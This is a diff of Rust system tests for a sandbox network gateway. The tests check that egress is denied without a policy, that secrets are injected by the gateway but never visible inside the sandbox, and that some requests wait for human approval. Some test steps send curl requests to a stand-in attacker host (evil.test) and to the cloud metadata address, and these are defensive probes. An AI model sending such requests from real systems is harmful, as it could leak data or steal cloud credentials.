@@ -2,7 +2,6 @@
 
 use std::io::Write as _;
 use std::process::{Command, Stdio};
-use std::time::Duration;
 
 use serde_json::Value;
 use system_tests::origin::Origin;
@@ -36,6 +35,11 @@ fn daemon(world: &World) -> Res<Client> {
         system_tests::api::Api::unix(&world.data().join("api.sock")).is_ok()
     })?;
     Ok(daemon)
+}
+
+/// What a client said, for a test that failed.
+fn said(done: &system_tests::Done) -> String {
+    format!("{:?}\n{}\n{}", done.code, done.out(), done.err())
 }
 
 /// A rule for an origin of ours.
@@ -74,7 +78,17 @@ fn put_secret(world: &World, name: &str, value: &str) -> Res<()> {
 
 /// Runs curl inside, and returns what it printed.
 fn curl(world: &World, op: &str, args: &[&str]) -> Res<system_tests::Done> {
-    let mut all = vec!["exec", "a", "--op", op, "--", "curl", "-sS", "--max-time", "20"];
+    let mut all = vec![
+        "exec",
+        "a",
+        "--op",
+        op,
+        "--",
+        "curl",
+        "-sS",
+        "--max-time",
+        "20",
+    ];
     all.extend(args);
     world.run(&all)
 }
@@ -95,17 +109,19 @@ fn without_a_policy_nothing_leaves_and_it_is_told_why() -> Res<()> {
     let daemon = daemon(&world)?;
     world.create("a", &[])?;
     let done = curl(&world, "http", &["-i", "http://evil.test/x?data=1"])?;
-    assert!(done.out().starts_with("HTTP/1.1 403"), "{}", done.words());
-    assert!(done.out().contains("egress_denied"), "{}", done.words());
+    assert!(done.out().starts_with("HTTP/1.1 403"), "{}", said(&done));
+    assert!(done.out().contains("egress_denied"), "{}", said(&done));
     assert!(
-        done.out().to_lowercase().contains("x-durable-deny: no_rule"),
+        done.out()
+            .to_lowercase()
+            .contains("x-durable-deny: no_rule"),
         "{}",
-        done.words()
+        said(&done)
     );
     let done = curl(&world, "https", &["-i", "https://evil.test/x"])?;
-    assert!(done.out().contains("egress_denied"), "{}", done.words());
+    assert!(done.out().contains("egress_denied"), "{}", said(&done));
     let done = curl(&world, "address", &["-i", "http://169.254.169.254/latest"])?;
-    assert!(done.out().contains("egress_denied"), "{}", done.words());
+    assert!(done.out().contains("egress_denied"), "{}", said(&done));
     let denials = lines(&world, &["policy", "log", "a", "--json"])?;
     for (op, host) in [
         ("http", "evil.test"),
@@ -146,10 +162,10 @@ fn what_a_rule_allows_leaves_with_its_secret_and_nothing_else_does() -> Res<()> 
 
     let base = format!("https://allowed.test:{}", origin.port);
     let done = curl(&world, "read", &[&format!("{base}/reflect")])?;
-    assert_eq!(done.code, Some(0), "{}", done.words());
+    assert_eq!(done.code, Some(0), "{}", said(&done));
     // The origin sent it back, and the gateway took it out.
-    assert!(done.out().contains("authorization: "), "{}", done.words());
-    assert!(!done.out().contains(REAL), "{}", done.words());
+    assert!(done.out().contains("authorization: "), "{}", said(&done));
+    assert!(!done.out().contains(REAL), "{}", said(&done));
     let seen = origin.seen();
     assert_eq!(seen.len(), 1);
     assert_eq!(
@@ -158,7 +174,7 @@ fn what_a_rule_allows_leaves_with_its_secret_and_nothing_else_does() -> Res<()> 
     );
 
     let done = curl(&world, "write", &["-d", "x=1", &format!("{base}/take/it")])?;
-    assert_eq!(done.out(), "ok /take/it\n", "{}", done.words());
+    assert_eq!(done.out(), "ok /take/it\n", "{}", said(&done));
     assert_eq!(origin.seen()[1].body, b"x=1");
 
     for (op, url) in [
@@ -166,17 +182,25 @@ fn what_a_rule_allows_leaves_with_its_secret_and_nothing_else_does() -> Res<()> 
         ("host", format!("https://other.test:{}/", other.port)),
     ] {
         let done = curl(&world, op, &["-k", &url])?;
-        assert!(!done.out().starts_with("ok"), "{}", done.words());
+        assert!(!done.out().starts_with("ok"), "{}", said(&done));
     }
-    let done = curl(&world, "method", &["-X", "DELETE", &format!("{base}/take/it")])?;
-    assert!(done.out().contains("egress_denied"), "{}", done.words());
+    let done = curl(
+        &world,
+        "method",
+        &["-X", "DELETE", &format!("{base}/take/it")],
+    )?;
+    assert!(done.out().contains("egress_denied"), "{}", said(&done));
     assert_eq!(origin.seen().len(), 2);
     assert!(other.seen().is_empty());
 
     let effects = lines(&world, &["effects", "a", "--json"])?;
     assert_eq!(effects.len(), 2, "{effects:?}");
     assert_eq!(
-        (&effects[0]["op"], &effects[0]["class"], &effects[0]["status"]),
+        (
+            &effects[0]["op"],
+            &effects[0]["class"],
+            &effects[0]["status"]
+        ),
         (&"read".into(), &"read".into(), &200.into())
     );
     assert_eq!(
@@ -195,7 +219,7 @@ fn what_a_rule_allows_leaves_with_its_secret_and_nothing_else_does() -> Res<()> 
         "a",
         &format!("env | grep -c '{0}'; grep -rsl '{0}' /workspace /root /tmp /run /etc | wc -l; cat /proc/*/environ | grep -ac '{0}'", &REAL[8..]),
     )?;
-    assert_eq!(inside.out(), "0\n0\n0\n", "{}", inside.words());
+    assert_eq!(inside.out(), "0\n0\n0\n", "{}", said(&inside));
     let journal = world.must(&["log", "a", "--json"])?.out();
     assert!(!journal.contains(&REAL[8..]));
     for entry in ["daemon.log", "authority", "store", "journal", "sandboxes"] {
@@ -215,12 +239,12 @@ fn what_a_rule_allows_leaves_with_its_secret_and_nothing_else_does() -> Res<()> 
     // Taken away, nothing leaves with it, and nothing leaves without it either.
     world.must(&["secret", "rm", "token"])?;
     let done = curl(&world, "gone", &[&format!("{base}/reflect")])?;
-    assert!(done.out().contains("egress_denied"), "{}", done.words());
+    assert!(done.out().contains("egress_denied"), "{}", said(&done));
     assert_eq!(origin.seen().len(), 3);
 
     put_policy(&world, "")?;
     let done = curl(&world, "closed", &["-k", &format!("{base}/reflect")])?;
-    assert!(!done.out().contains("authorization"), "{}", done.words());
+    assert!(!done.out().contains("authorization"), "{}", said(&done));
     assert_eq!(origin.seen().len(), 3);
     world.end_clean()?;
     drop(daemon);
@@ -283,7 +307,18 @@ fn a_request_waits_for_a_person_and_leaves_once() -> Res<()> {
     let url = format!("https://allowed.test:{}/release/1", origin.port);
     let ask = |op: &str| {
         world.start(&[
-            "exec", "a", "--op", op, "--", "curl", "-sS", "--max-time", "90", "-d", "v=1", &url,
+            "exec",
+            "a",
+            "--op",
+            op,
+            "--",
+            "curl",
+            "-sS",
+            "--max-time",
+            "90",
+            "-d",
+            "v=1",
+            &url,
         ])
     };
     let waiting = || lines(&world, &["approvals", "a", "--json"]);
@@ -303,7 +338,7 @@ fn a_request_waits_for_a_person_and_leaves_once() -> Res<()> {
     assert_eq!(waiting()?[0]["id"], id.as_str());
     world.must(&["approve", "a", &id])?;
     let done = ask("two")?.finish()?;
-    assert_eq!(done.out(), "ok /release/1\n", "{}", done.words());
+    assert_eq!(done.out(), "ok /release/1\n", "{}", said(&done));
     assert_eq!(origin.seen().len(), 1);
     assert!(waiting()?.is_empty());
 
@@ -313,7 +348,7 @@ fn a_request_waits_for_a_person_and_leaves_once() -> Res<()> {
     let id = waiting()?[0]["id"].as_str().unwrap_or_default().to_owned();
     world.must(&["refuse", "a", &id])?;
     let done = client.finish()?;
-    assert!(done.out().contains("egress_denied"), "{}", done.words());
+    assert!(done.out().contains("egress_denied"), "{}", said(&done));
 
     // Remembered, it is a rule.
     let client = ask("four")?;
@@ -333,7 +368,10 @@ fn a_request_waits_for_a_person_and_leaves_once() -> Res<()> {
 fn a_policy_that_is_none_changes_nothing() -> Res<()> {
     let world = World::new("nopolicy")?;
     world.create("a", &[])?;
-    put_policy(&world, "[[rule]]\nname = \"x\"\nhosts = [\"allowed.test\"]\n")?;
+    put_policy(
+        &world,
+        "[[rule]]\nname = \"x\"\nhosts = [\"allowed.test\"]\n",
+    )?;
     let before = world.must(&["policy", "show", "a"])?.out();
     for bad in [
         "[[rule]]\nname = \"x\"\nhosts = [\"*\"]\n",
@@ -350,7 +388,7 @@ fn a_policy_that_is_none_changes_nothing() -> Res<()> {
     assert_eq!(world.must(&["policy", "show", "a"])?.out(), before);
     let check = |url: &str, code| -> Res<String> {
         let done = world.run(&["policy", "check", url, "--of", "a"])?;
-        assert_eq!(done.code, Some(code), "{}", done.words());
+        assert_eq!(done.code, Some(code), "{}", said(&done));
         Ok(done.out())
     };
     assert!(check("https://allowed.test/", 0)?.contains('x'));
